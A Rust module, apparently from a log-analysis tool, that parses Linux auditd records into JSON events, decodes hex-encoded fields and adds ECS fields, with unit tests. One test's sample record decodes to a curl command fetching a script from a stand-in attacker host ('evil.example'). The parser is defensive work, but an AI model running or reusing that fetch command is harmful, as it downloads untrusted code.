//! auditd records (`/var/log/audit/audit.log`, or forwarded through syslog by audisp):
//! one event per record, with the record's own keys as top-level fields (`type`, `syscall`,
//! `exe`, `comm`, `a0`.., `key`, `acct`, `res`, ...) as Sigma's auditd rules and
//! `pipelines/linux.yml` expect, plus `@timestamp` from `msg=audit(SECONDS:SERIAL)`.
//!
//! Values auditd hex-encodes because they may hold spaces or control characters (EXECVE
//! arguments, `proctitle`, `exe`, `comm`, `name`, `cwd`, `acct`, ...) are decoded; the
//! inner `msg='op=... res=success'` of user-space records is flattened into the record.
//! Some ECS fields are added besides (`process.*`, `user.*`, `source.ip`, `event.outcome`).

use chrono::{DateTime, Utc};
use serde_json::{Value as Json, json};
use vigil_core::event::{self, fields};

use crate::{epoch_time, is_ip};

/// Whether a line looks like an audit record: `[node=X ]type=X msg=audit(`.
pub(crate) fn looks_like(line: &str) -> bool {
    let t = strip_node(line).1;
    t.starts_with("type=") && t.get(..80).unwrap_or(t).contains("audit(")
}

fn strip_node(line: &str) -> (Option<&str>, &str) {
    match line.strip_prefix("node=") {
        Some(r) => match r.split_once(' ') {
            Some((node, rest)) => (Some(node), rest.trim_start()),
            None => (None, line),
        },
        None => (None, line),
    }
}

struct Record<'a> {
    node: Option<&'a str>,
    kind: &'a str,
    time: Option<DateTime<Utc>>,
    serial: Option<u64>,
    fields: Vec<(String, String)>,
}

fn parse_record(text: &str) -> Result<Record<'_>, String> {
    let text = text.trim();
    let text = text.strip_prefix("audit: ").unwrap_or(text);
    let (node, rest) = strip_node(text);
    let rest = rest
        .strip_prefix("type=")
        .ok_or("no `type=` at the start")?;
    let (kind, rest) = rest
        .split_once(' ')
        .ok_or("nothing after the record type")?;
    let rest = rest.trim_start();
    let rest = rest
        .strip_prefix("msg=audit(")
        .or_else(|| rest.strip_prefix("audit("))
        .ok_or("no `msg=audit(` after the record type")?;
    let (stamp, rest) = rest
        .split_once("):")
        .ok_or("unterminated `audit(` time stamp")?;
    let (time, serial) = stamp.split_once(':').unwrap_or((stamp, ""));
    let time = parse_time(time).ok_or_else(|| format!("bad audit time {time:?}"))?;
    let mut fields = Vec::new();
    parse_kv(rest, &mut fields);
    join_split_args(&mut fields);
    for (key, value) in fields.iter_mut() {
        if should_decode(kind, key)
            && let Some(decoded) = decode_hex(value, kind == "PROCTITLE")
        {
            *value = decoded;
        }
    }
    Ok(Record {
        node,
        kind,
        time: Some(time),
        serial: serial.parse().ok(),
        fields,
    })
}

fn parse_time(s: &str) -> Option<DateTime<Utc>> {
    let (secs, frac) = s.split_once('.').unwrap_or((s, ""));
    let secs: i64 = secs.parse().ok()?;
    let digits = frac.get(..frac.len().min(9))?;
    let nanos = if digits.is_empty() {
        0
    } else {
        digits.parse::<u32>().ok()? * 10u32.pow(9 - digits.len() as u32)
    };
    epoch_time(secs, nanos)
}

/// `key=value key="quoted value" msg='inner key=value ...'`; the enriched section after
/// 0x1D is read the same way (its keys are upper case).
fn parse_kv(s: &str, out: &mut Vec<(String, String)>) {
    let mut rest = s;
    loop {
        rest = rest.trim_start_matches([' ', '\u{1d}', '\t']);
        if rest.is_empty() {
            return;
        }
        let key_end = rest.find(['=', ' ', '\u{1d}']).unwrap_or(rest.len());
        let key = &rest[..key_end];
        rest = &rest[key_end..];
        let Some(after) = rest.strip_prefix('=') else {
            // A bare word (`DF` style flags do not occur in audit, but be safe).
            continue;
        };
        let (value, after) = if let Some(q) = after.strip_prefix('"') {
            match q.find('"') {
                Some(i) => (&q[..i], &q[i + 1..]),
                None => (q, ""),
            }
        } else if let Some(q) = after.strip_prefix('\'') {
            let (inner, after) = match q.find('\'') {
                Some(i) => (&q[..i], &q[i + 1..]),
                None => (q, ""),
            };
            if key == "msg" {
                parse_kv(inner, out);
                rest = after;
                continue;
            }
            (inner, after)
        } else {
            let end = after.find([' ', '\u{1d}']).unwrap_or(after.len());
            (&after[..end], &after[end..])
        };
        if !key.is_empty() {
            out.push((key.to_owned(), value.to_owned()));
        }
        rest = after;
    }
}

/// EXECVE arguments longer than a record line come as `a1_len=N a1[0]=.. a1[1]=..`.
fn join_split_args(fields: &mut Vec<(String, String)>) {
    if !fields.iter().any(|(k, _)| k.ends_with(']')) {
        return;
    }
    let mut joined: Vec<(String, String)> = Vec::with_capacity(fields.len());
    for (k, v) in fields.drain(..) {
        if let Some((name, _)) = k.split_once('[').filter(|_| k.ends_with(']')) {
            match joined.iter_mut().find(|(n, _)| n == name) {
                Some((_, acc)) => acc.push_str(&v),
                None => joined.push((name.to_owned(), v)),
            }
        } else {
            joined.push((k, v));
        }
    }
    *fields = joined;
}

fn should_decode(kind: &str, key: &str) -> bool {
    let arg = key.len() > 1 && key.starts_with('a') && key[1..].bytes().all(|b| b.is_ascii_digit());
    (kind == "EXECVE" && arg)
        || matches!(
            key,
            "proctitle"
                | "exe"
                | "comm"
                | "name"
                | "cwd"
                | "cmd"
                | "acct"
                | "path"
                | "data"
                | "old"
                | "new"
                | "ocomm"
                | "root_dir"
        )
}

/// An unquoted audit value that is hex (even length, hex digits only) decoded; NULs (which
/// separate PROCTITLE arguments) become spaces when `nul_to_space`.
fn decode_hex(value: &str, nul_to_space: bool) -> Option<String> {
    if value.is_empty()
        || !value.len().is_multiple_of(2)
        || !value.bytes().all(|b| b.is_ascii_hexdigit())
    {
        return None;
    }
    let mut bytes: Vec<u8> = (0..value.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&value[i..i + 2], 16).unwrap_or(0))
        .collect();
    if nul_to_space {
        while bytes.last() == Some(&0) {
            bytes.pop();
        }
        for b in &mut bytes {
            if *b == 0 {
                *b = b' ';
            }
        }
    }
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

/// One audit.log line as an event.
pub(crate) fn parse_line(line: &str, received: DateTime<Utc>) -> Result<Json, String> {
    let mut ev = crate::base(line, "auditd", received);
    let record = parse_record(line)?;
    apply(&record, &mut ev);
    Ok(ev)
}

/// An audit record inside another message (syslog from audisp or the kernel's `audit:`):
/// adds its fields to `ev`; false when the text is not an audit record.
pub(crate) fn parse_into(text: &str, ev: &mut Json) -> bool {
    let t = text.trim_start();
    let t = t.strip_prefix("audit: ").unwrap_or(t);
    if !looks_like(t) {
        return false;
    }
    match parse_record(t) {
        Ok(record) => {
            apply(&record, ev);
            true
        }
        Err(_) => false,
    }
}

fn apply(record: &Record, ev: &mut Json) {
    if let Some(t) = record.time {
        ev["@timestamp"] = event::format_timestamp(t).into();
    }
    if let Some(obj) = ev.as_object_mut() {
        obj.entry("type").or_insert_with(|| Json::from(record.kind));
        for (k, v) in &record.fields {
            obj.entry(k.as_str())
                .or_insert_with(|| Json::from(v.as_str()));
        }
    }
    let get = |k: &str| {
        record
            .fields
            .iter()
            .find(|(key, _)| key == k)
            .map(|(_, v)| v.as_str())
    };
    if let Some(serial) = record.serial {
        event::set(ev, "event.sequence", serial.into());
    }
    if let Some(node) = record.node {
        event::set(ev, fields::HOST_NAME, node.into());
    }
    event::set(ev, fields::ACTION, record.kind.to_ascii_lowercase().into());
    let category = match record.kind {
        "SYSCALL" | "EXECVE" | "PROCTITLE" | "CWD" => Some("process"),
        "PATH" => Some("file"),
        k if k.starts_with("USER_") || k.starts_with("CRED_") || k == "LOGIN" => {
            Some("authentication")
        }
        "ADD_USER" | "DEL_USER" | "ADD_GROUP" | "DEL_GROUP" => Some("iam"),
        _ => None,
    };
    if let Some(c) = category {
        event::set(ev, fields::CATEGORY, json!([c]));
    }
    let outcome = match get("res").or(get("success")) {
        Some("success" | "yes" | "1") => Some("success"),
        Some("failed" | "fail" | "no" | "0") => Some("failure"),
        _ => None,
    };
    if let Some(o) = outcome {
        event::set(ev, fields::OUTCOME, o.into());
    }
    let number = |v: &str| v.parse::<u64>().ok().map(Json::from);
    if let Some(pid) = get("pid").and_then(number) {
        event::set(ev, fields::PROCESS_PID, pid);
    }
    if let Some(ppid) = get("ppid").and_then(number) {
        event::set(ev, "process.parent.pid", ppid);
    }
    if let Some(exe) = get("exe").filter(|e| *e != "(null)") {
        event::set(ev, fields::PROCESS_EXECUTABLE, exe.into());
    }
    if let Some(comm) = get("comm").filter(|e| *e != "(null)") {
        event::set(ev, fields::PROCESS_NAME, comm.into());
    }
    if let Some(uid) = get("uid") {
        event::set(ev, "user.id", uid.into());
    }
    if let Some(name) = get("acct").or(get("UID")) {
        event::set(ev, fields::USER_NAME, name.into());
    }
    if let Some(addr) = get("addr").filter(|a| is_ip(a)) {
        event::set(ev, fields::SOURCE_IP, addr.into());
    }
    match record.kind {
        "EXECVE" => {
            let args: Vec<Json> = (0..)
                .map_while(|i| get(&format!("a{i}")))
                .map(Json::from)
                .collect();
            if !args.is_empty() {
                let line: Vec<&str> = args.iter().filter_map(Json::as_str).collect();
                event::set(ev, fields::PROCESS_COMMAND_LINE, line.join(" ").into());
                event::set(ev, "process.args", Json::Array(args));
            }
        }
        "PROCTITLE" => {
            if let Some(title) = get("proctitle") {
                event::set(ev, fields::PROCESS_COMMAND_LINE, title.into());
            }
        }
        "CWD" => {
            if let Some(cwd) = get("cwd") {
                event::set(ev, "process.working_directory", cwd.into());
            }
        }
        "PATH" => {
            if let Some(name) = get("name").filter(|n| *n != "(null)") {
                event::set(ev, "file.path", name.into());
            }
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rec(line: &str) -> Json {
        parse_line(line, "2026-11-23T12:00:00Z".parse().unwrap()).unwrap()
    }

    #[test]
    fn syscall_record_keeps_its_keys() {
        let e = rec(
            r#"type=SYSCALL msg=audit(1700000000.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=55d5c1e0 a1=55d5c1f0 a2=7ffd items=2 ppid=1234 pid=5678 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" subj=unconfined key="network_tools""#,
        );
        assert_eq!(e["type"], "SYSCALL");
        assert_eq!(e["syscall"], "59");
        assert_eq!(e["a0"], "55d5c1e0", "SYSCALL registers stay hex");
        assert_eq!(e["exe"], "/usr/bin/curl");
        assert_eq!(e["comm"], "curl");
        assert_eq!(e["key"], "network_tools");
        assert_eq!(e["@timestamp"], "2023-11-14T22:13:20.123000Z");
        assert_eq!(e["event"]["sequence"], 456);
        assert_eq!(e["event"]["dataset"], "auditd");
        assert_eq!(e["event"]["outcome"], "success");
        assert_eq!(e["process"]["pid"], 5678);
        assert_eq!(e["process"]["parent"]["pid"], 1234);
        assert_eq!(e["process"]["executable"], "/usr/bin/curl");
    }

    #[test]
    fn execve_arguments_are_decoded() {
        let e = rec(
            r#"type=EXECVE msg=audit(1700000000.123:456): argc=3 a0="curl" a1="-s" a2=687474703A2F2F6576696C2E6578616D706C652F782E7368"#,
        );
        assert_eq!(e["a0"], "curl");
        assert_eq!(e["a2"], "http://evil.example/x.sh");
        assert_eq!(
            e["process"]["command_line"],
            "curl -s http://evil.example/x.sh"
        );
        assert_eq!(
            e["process"]["args"],
            json!(["curl", "-s", "http://evil.example/x.sh"])
        );
        let e = rec(
            r#"type=EXECVE msg=audit(1700000000.1:7): argc=2 a0="echo" a1_len=8 a1[0]=61626364 a1[1]=65666768"#,
        );
        assert_eq!(e["a1"], "abcdefgh");
    }

    #[test]
    fn proctitle_is_decoded_with_nuls_as_spaces() {
        let e =
            rec("type=PROCTITLE msg=audit(1700000000.123:456): proctitle=62617368002D6300696400");
        assert_eq!(e["proctitle"], "bash -c id");
        assert_eq!(e["process"]["command_line"], "bash -c id");
    }

    #[test]
    fn user_records_flatten_the_inner_message() {
        let e = rec(
            r#"type=USER_AUTH msg=audit(1700000000.500:99): pid=812 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:authentication grantors=? acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'"#,
        );
        assert_eq!(e["op"], "PAM:authentication");
        assert_eq!(e["acct"], "root");
        assert_eq!(e["res"], "failed");
        assert_eq!(e["event"]["outcome"], "failure");
        assert_eq!(e["event"]["category"], json!(["authentication"]));
        assert_eq!(e["user"]["name"], "root");
        assert_eq!(e["source"]["ip"], "203.0.113.9");
        let e = rec(
            r#"node=web-1 type=USER_LOGIN msg=audit(1700000000.5:9): pid=1 uid=0 msg='op=login acct=616C696365 exe="/usr/sbin/sshd" res=success'"#,
        );
        assert_eq!(e["acct"], "alice");
        assert_eq!(e["host"]["name"], "web-1");
        assert_eq!(e["event"]["outcome"], "success");
    }

    #[test]
    fn enriched_fields_after_the_separator_are_kept() {
        let e = rec(
            "type=SYSCALL msg=audit(1700000000.1:2): arch=c000003e syscall=59 uid=0 comm=\"id\"\u{1d}ARCH=x86_64 SYSCALL=execve UID=\"root\"",
        );
        assert_eq!(e["SYSCALL"], "execve");
        assert_eq!(e["UID"], "root");
        assert_eq!(e["syscall"], "59");
    }

    #[test]
    fn bad_records_say_what_is_wrong() {
        let r = |s| parse_line(s, "2026-11-23T12:00:00Z".parse().unwrap()).unwrap_err();
        assert!(r("type=SYSCALL arch=x").contains("msg=audit("));
        assert!(r("type=SYSCALL msg=audit(abc:1): x=1").contains("bad audit time"));
        assert!(r("hello").contains("type="));
    }
}
